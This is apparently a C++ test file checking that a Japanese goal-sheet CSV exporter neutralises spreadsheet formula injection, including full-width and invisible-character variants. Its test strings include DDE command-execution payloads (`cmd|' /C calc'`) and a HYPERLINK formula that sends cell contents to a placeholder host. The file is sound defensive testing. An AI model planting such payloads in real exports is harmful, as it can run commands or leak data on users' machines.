#include "core/cp932.h"
#include "core/formula_guard.h"
#include "core/text.h"
#include "intake/reader.h"
#include "render/csv.h"
#include "render/records.h"
#include "sheets.h"
#include "support/qstring.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <catch2/catch.hpp>
#include <random>

using namespace Qt::StringLiterals;
using namespace mokuhyo;
using namespace mokuhyo::render;

namespace {

// Texts put together from what guards, quotes and encodings trip over.
class Texts
{
public:
    explicit Texts(QStringList pieces) : m_pieces(std::move(pieces)) {}

    QString next()
    {
        QString text;
        for (unsigned left = m_random() % 7; left > 0; --left)
            text += m_pieces[static_cast<qsizetype>(m_random() % unsigned(m_pieces.size()))];
        return text;
    }

private:
    QStringList m_pieces;
    std::mt19937 m_random{7}; // the same texts in every run
};

const QStringList &pieces()
{
    static const QStringList all{
        u"'"_s,    u"''"_s,         u"="_s,      u"+"_s,  u"-"_s,      u"@"_s,      u"＝"_s,
        u"＋"_s,   u"－"_s,         u"＠"_s,     u" "_s,  u"　"_s,     u"\n"_s,     u"\t"_s,
        u"\""_s,   u","_s,          u";"_s,      u"("_s,  u")"_s,      u"（"_s,     u"）"_s,
        u"SUM("_s, u"A1"_s,         u"10"_s,     u"%"_s,  u"&"_s,      u"|"_s,      u"!"_s,
        u"件"_s,   u"詳細"_s,       u"−"_s,      u"〜"_s, u"\u200b"_s, u"\ufeff"_s, u"𠮷"_s,
        u"葛"_s,   u"\U000e0100"_s, u"\u3099"_s, u"か"_s, u"cmd"_s};
    return all;
}

QString cellAt(const intake::Workbook &workbook, int row, int column)
{
    for (const intake::GridCell &cell : workbook.tabs.front().cells) {
        if (cell.row == row && cell.column == column)
            return cell.text;
    }
    return {};
}

} // namespace

TEST_CASE("what a spreadsheet would evaluate is guarded")
{
    for (const char16_t *text :
         {u"=1+1", u"=cmd|' /C calc'!A0", u"+SUM(A1:A3)", u"-1+2", u"+A1", u"@SUM(A1)", u"\t=1",
          u"\r=1", u"'=1", u"''-", u"-cmd|'/C calc'!A0",
          // with Japanese
          u"+HYPERLINK(\"http://x/?\"&A1,\"詳細\")", u"-HYPERLINK(品名)", u"+1&品名", u"-表!A1",
          u"+cmd|日本", u"@HYPERLINK(品名)", u"+'file:///x'#表.A1", u"=市民",
          // behind what is not seen
          u" =1", u"　=1", u"\n=1", u"\r\n\t =1", u"\u200b=1", u"\ufeff\u2060=1", u"\u00a0+A1",
          u"\n-1+2", u"\u200b@SUM(A1)", u"\u0001=1", u"　+SUM(品名)", u"-5\n-3", u"' =1",
          // in full width
          u"＝1+1", u"＝１＋１", u"＋ＳＵＭ（Ａ１：Ａ３）", u"－A1", u"＠SUM（A1）", u"　＝SUM(A1)",
          u"＋ＨＹＰＥＲＬＩＮＫ（＂ｘ＂，＂詳細＂）", u"＋ｃｍｄ｜日本", u"＋表！Ａ１", u"'＝1"}) {
        const QString plain = QString::fromUtf16(text);
        CAPTURE(plain);
        CHECK(guarded(plain) == u'\'' + plain);
        CHECK(withoutGuard(guarded(plain)) == plain);
    }
}

TEST_CASE("what a spreadsheet would not evaluate is not guarded")
{
    for (const char16_t *text : {u"-",
                                 u"+10件",
                                 u"-5%",
                                 u"+10",
                                 u"-1,200.5",
                                 u"@市民課",
                                 u"=",
                                 u"'引用'",
                                 u"",
                                 u"－",
                                 u"△3",
                                 u"+αの効果",
                                 u"\tタブ",
                                 u"a=b",
                                 u"＋１０",
                                 u"－５％",
                                 u"＋１，２００",
                                 u"＋10件（前年比）",
                                 u"-5pt（前年比）",
                                 u"-5pt(前年比)",
                                 u"－DX（デジタル化）の推進",
                                 u"－協働＆共生！",
                                 u"＝同上",
                                 u"\n-\n",
                                 u" +10件",
                                 u"　－",
                                 u"- 1 災害に強いまちづくり",
                                 u"-なし（該当者がいない）",
                                 u"-----",
                                 u"@kouhou_city",
                                 u"\n+5%\n",
                                 u"'70s",
                                 u"' 引用"}) {
        const QString plain = QString::fromUtf16(text);
        CAPTURE(plain);
        CHECK(guarded(plain) == plain);
        CHECK(withoutGuard(plain) == plain);
    }
}

TEST_CASE("the reader takes off the guard that the writer set, and nothing else")
{
    Texts texts(pieces() + QStringList{u"\r"_s, u"\u0001"_s, QString(QChar(0xd842))});
    for (int i = 0; i < 20000; ++i) {
        const QString text = texts.next();
        CAPTURE(text);
        REQUIRE(withoutGuard(guarded(text)) == text);
    }
}

TEST_CASE("every text of a csv file comes back")
{
    const Form &form = sheets::form(u"machida"_s);
    Sheet sheet = sheets::invented(form, 60);
    Texts texts(pieces());
    for (Item &item : sheet.items) {
        for (const Field &column : form.columns)
            sheets::set(item, column.key, texts.next());
    }
    CsvOptions options;
    options.encoding = GENERATE(CsvEncoding::Utf8, CsvEncoding::Cp932);
    options.replaceLost = true;
    const RecordTable table = recordsOf({{&sheet, &form}}, {});
    const auto read = intake::readBytes(csvOf({{&sheet, &form}}, options), u"a"_s);
    REQUIRE(read.has_value());
    for (size_t row = 0; row < table.rows.size(); ++row) {
        for (qsizetype column = 0; column < table.rows[row].size(); ++column) {
            QString text = table.rows[row][column];
            if (options.encoding == CsvEncoding::Cp932)
                text = fromCp932(toCp932(text).bytes).value_or(QString());
            CAPTURE(row, column, text);
            REQUIRE(cellAt(*read, int(row) + 1, int(column)) == withLf(text));
        }
    }
}

TEST_CASE("a formula that begins once characters are lost is guarded")
{
    const Form &form = sheets::form(u"machida"_s);
    Sheet sheet = sheets::invented(form, 1);
    CsvOptions options;
    options.encoding = CsvEncoding::Cp932;
    options.replaceLost = true;
    const auto csvWith = [&](const QString &text) {
        sheets::set(sheet.items[0], u"target"_s, text);
        return csvOf({{&sheet, &form}}, options);
    };
    CHECK(csvWith(u"\ufe0f=1+1"_s).contains(",'=1+1,")); // a selector of a shape
    CHECK(csvWith(u"=\ufe0f1+1"_s).contains(",'=1+1,"));
    CHECK(csvWith(u"\u200b=1+1"_s).contains(",'=1+1,")); // no width
    CHECK(csvWith(u"−A1+B1"_s)
              .contains(",'\x81\x7c"
                        "A1+B1,"));                 // the minus sign is － there
    CHECK(csvWith(u"+\u200b5"_s).contains(",+5,")); // a number in the end
}

TEST_CASE("several forms make a folder with a file each")
{
    const QTemporaryDir folder;
    const Sheet one = sheets::invented(sheets::form(u"machida"_s), 1);
    const Sheet two = sheets::invented(sheets::form(u"ueda"_s), 1);
    const QString path = folder.filePath(u"out"_s);
    REQUIRE(writeCsv({{&one, &sheets::form(u"machida"_s)}, {&two, &sheets::form(u"ueda"_s)}}, path)
                .has_value());
    CHECK(QDir(path).entryList(QDir::Files) ==
          QStringList{sheets::form(u"ueda"_s).title + u".csv"_s,
                      sheets::form(u"machida"_s).title + u".csv"_s});
    const QString single = folder.filePath(u"one.csv"_s);
    REQUIRE(writeCsv({{&one, &sheets::form(u"machida"_s)}}, single).has_value());
    CHECK(QFile::exists(single));
}

TEST_CASE("forms whose titles make one file name get files of their own")
{
    const QTemporaryDir folder;
    std::vector<Form> forms;
    for (const auto &[id, title] : {std::pair{u"a"_s, u"Goal:sheet"_s},
                                    {u"b"_s, u"Goal*sheet"_s},
                                    {u"c"_s, u"goal?SHEET"_s},
                                    {u"d"_s, u"Goal_sheet@1"_s},
                                    {u"e"_s, u"ＧＯＡＬ"_s},
                                    {u"f"_s, u"ｇｏａｌ"_s}}) {
        Form form = sheets::form(u"machida"_s);
        form.ref = {id, 1};
        form.title = title;
        forms.push_back(form);
    }
    const Sheet sheet = sheets::invented(forms.front(), 1);
    std::vector<SheetSource> sources;
    for (const Form &form : forms)
        sources.push_back({&sheet, &form});
    REQUIRE(writeCsv(sources, folder.filePath(u"out"_s)).has_value());
    QStringList names =
        QDir(folder.filePath(u"out"_s)).entryList(QDir::Files, QDir::Name | QDir::IgnoreCase);
    CHECK(names.size() == 6);
    for (QString &name : names)
        name = name.toCaseFolded();
    CHECK(names.removeDuplicates() == 0);
}
